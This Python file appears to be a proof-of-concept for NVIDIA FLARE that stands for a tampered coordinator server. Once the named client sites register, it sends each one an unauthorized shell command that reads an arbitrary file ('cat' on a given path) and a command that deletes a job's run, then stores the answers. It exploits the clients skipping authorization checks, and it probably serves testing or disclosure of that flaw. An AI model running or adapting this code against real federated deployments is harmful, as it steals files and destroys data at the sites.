"""A coordinator's server whose code was changed: it sends its sites what FLARE's own server never would."""

import json
import threading
import time
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.fuel.f3.cellnet.defs import CellChannel
from nvflare.private.admin_defs import Message
from nvflare.private.defs import RequestHeader, SysCommandTopic, TrainingTopic, new_cell_message


class AsksForMore(FLComponent):
    """Asks every site for a file by its whole path, and to delete its policies, as soon as the site is there.

    Without a command's name and without a wish for authorization no right is looked at.

    Args:
        file: what it wants to read.
        sites: their names.
        folder: gets a JSON file of answers by site.
    """

    def __init__(self, file: str, sites: list, folder: str):
        super().__init__()
        self.file, self.sites, self.folder = file, sites, Path(folder)

    def handle_event(self, event_type, fl_ctx):
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=self._ask, args=(fl_ctx.get_engine(),), daemon=True).start()

    def _ask(self, engine):
        while {client.name for client in engine.get_clients()} < set(self.sites):
            time.sleep(0.5)
        time.sleep(5)  # a site takes messages only after it has registered
        for site in self.sites:
            read = Message(SysCommandTopic.SHELL, f"cat {self.file}")
            delete = Message(TrainingTopic.DELETE_RUN, "")
            delete.set_header(RequestHeader.JOB_ID, "precious")
            answers = [self._send(engine, site, message) for message in (read, delete)]
            (self.folder / f"{site}.json").write_text(json.dumps(answers))

    @staticmethod
    def _send(engine, site, message):
        reply = engine.server.cell.send_request(
            channel=CellChannel.CLIENT_MAIN,
            topic=message.topic,
            target=site,
            request=new_cell_message({}, message),
            timeout=20,
        )
        return str(getattr(reply.payload, "body", reply.payload))
